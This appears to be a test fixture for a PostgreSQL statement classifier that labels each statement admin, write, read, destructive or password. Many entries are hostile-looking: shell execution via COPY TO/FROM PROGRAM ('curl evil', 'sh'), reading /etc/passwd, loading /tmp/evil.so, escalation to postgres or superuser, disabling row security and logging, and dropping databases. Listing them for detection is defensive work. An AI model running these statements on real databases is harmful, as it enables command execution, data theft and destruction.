--- admin
DO $$ BEGIN DELETE FROM orders; END $$
--- admin
DO LANGUAGE plpgsql 'BEGIN NULL; END'
--- admin
CALL p(1)
--- admin
COPY orders FROM PROGRAM 'curl evil'
--- admin
COPY orders TO PROGRAM 'sh'
--- admin
COPY (SELECT 1) TO PROGRAM 'sh -c id'
--- admin
COPY orders FROM '/etc/passwd'
--- admin
COPY orders TO '/tmp/x' WITH (FORMAT csv)
--- write writes=orders
COPY orders FROM STDIN
--- write
COPY orders (id) FROM STDIN WITH (FORMAT csv, HEADER) WHERE id > 0
--- read writes=-
COPY orders TO STDOUT
--- read
COPY (SELECT 1) TO STDOUT (FORMAT binary)
--- admin
CREATE FUNCTION lower(int) RETURNS int LANGUAGE sql AS 'DELETE FROM orders; SELECT 1'
--- admin
CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM orders WHERE id = 1; END
--- admin
CREATE FUNCTION f() RETURNS int RETURN 1
--- admin
CREATE AGGREGATE sum2 (int) (SFUNC = f, STYPE = int)
--- admin
CREATE OPERATOR + (LEFTARG = a, RIGHTARG = b, FUNCTION = wipe)
--- admin
CREATE CAST (text AS mood) WITH FUNCTION wipe(text) AS IMPLICIT
--- admin
CREATE CAST (text AS mood) WITH INOUT
--- admin
CREATE TYPE t (INPUT = a, OUTPUT = b)
--- admin
CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <
--- admin
CREATE ACCESS METHOD m TYPE INDEX HANDLER h
--- admin
CREATE TRANSFORM FOR t LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))
--- admin
CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f
--- admin
CREATE EXTENSION dblink
--- admin
ALTER EXTENSION dblink UPDATE
--- admin destructive
DROP EXTENSION dblink
--- admin
CREATE LANGUAGE plperlu
--- admin
CREATE TRUSTED LANGUAGE x HANDLER h
--- admin
CREATE FOREIGN DATA WRAPPER w
--- admin password
CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (host 'x')
--- admin
CREATE FOREIGN TABLE f (a int) SERVER s OPTIONS (program 'sh')
--- admin
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
--- admin password
CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'a', password 'b')
--- admin
CREATE PUBLICATION p FOR ALL TABLES
--- admin password
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
--- admin
ALTER SUBSCRIPTION s DISABLE
--- admin destructive
DROP SUBSCRIPTION s
--- admin
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
--- admin
ALTER EVENT TRIGGER e DISABLE
--- admin
GRANT SELECT ON orders TO PUBLIC
--- admin
GRANT SELECT (ssn) ON customers TO agent
--- admin
GRANT postgres TO agent WITH ADMIN OPTION
--- admin
GRANT SET ON PARAMETER log_statement TO agent
--- admin
REVOKE ALL ON orders FROM audit
--- admin
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
--- admin
REASSIGN OWNED BY a TO b
--- admin destructive
DROP OWNED BY a
--- admin
SECURITY LABEL FOR selinux ON TABLE orders IS 'x'
--- admin
LOAD '/tmp/evil.so'
--- admin
CREATE ROLE r SUPERUSER
--- admin password
CREATE USER u PASSWORD 'x'
--- admin password
ALTER ROLE r WITH LOGIN PASSWORD 'x'
--- admin
ALTER ROLE r SET search_path = evil, pg_catalog
--- admin
ALTER ROLE ALL IN DATABASE shop SET role = postgres
--- admin
ALTER USER r RENAME TO s
--- admin destructive
DROP ROLE r
--- admin
ALTER SYSTEM SET archive_command = 'sh'
--- admin
ALTER SYSTEM RESET ALL
--- admin
ALTER DATABASE shop SET search_path = evil
--- admin
ALTER DATABASE shop OWNER TO agent
--- admin
CREATE DATABASE x TEMPLATE shop
--- admin destructive
DROP DATABASE shop WITH (FORCE)
--- admin
CREATE TABLESPACE t LOCATION '/tmp'
--- admin destructive
DROP TABLESPACE t
--- admin
ALTER TABLE orders OWNER TO agent
--- admin
ALTER TABLE orders DISABLE ROW LEVEL SECURITY
--- admin
ALTER TABLE orders NO FORCE ROW LEVEL SECURITY
--- admin
ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b
--- admin
CREATE POLICY p ON orders USING (true)
--- admin
ALTER POLICY p ON orders USING (true)
--- admin destructive
DROP POLICY p ON orders
--- admin
ALTER FUNCTION wipe(int) RENAME TO lower
--- admin
ALTER FUNCTION wipe(int) SET SCHEMA pg_catalog
--- admin
ALTER FUNCTION f(int) SECURITY DEFINER
--- admin
ALTER FUNCTION f(int) OWNER TO postgres
--- admin
ALTER LARGE OBJECT 1 OWNER TO a
--- admin
ALTER OPERATOR + (int, int) OWNER TO a
--- admin
ALTER OPERATOR + (int, int) SET SCHEMA pg_catalog
--- admin destructive
DROP OPERATOR + (int, int)
--- admin destructive
DROP CAST (int AS text)
--- admin destructive
DROP LANGUAGE plpgsql
--- admin
PREPARE TRANSACTION 'x'
--- admin
COMMIT PREPARED 'x'
--- admin
ROLLBACK PREPARED 'x'
--- admin
CHECKPOINT
--- admin
SET ROLE postgres
--- admin
SET ROLE NONE
--- admin
SET LOCAL ROLE 'postgres'
--- admin
RESET ROLE
--- admin
SET SESSION AUTHORIZATION postgres
--- admin
SET SESSION AUTHORIZATION DEFAULT
--- admin
SET "ROLE" TO postgres
--- admin
SET session_authorization = postgres
--- admin
SET standard_conforming_strings = off
--- admin
SET standard_conforming_strings = 0
--- admin
SET client_encoding = 'SJIS'
--- admin
SET NAMES 'BIG5'
--- admin
SET session_replication_role = replica
--- session
SET row_security = off
--- admin
SET local_preload_libraries = 'x'
--- admin
SET dynamic_library_path = '/tmp'
--- admin
SET log_statement = none
--- admin
SET zero_damaged_pages = on
--- admin
SET lo_compat_privileges = on
--- session
SET TRANSACTION SNAPSHOT '00000003-0000001B-1'
--- admin
CREATE TEXT SEARCH TEMPLATE t (LEXIZE = f)
--- admin
ALTER TEXT SEARCH DICTIONARY d (stopwords = x)
--- admin destructive
DROP USER MAPPING FOR u SERVER s
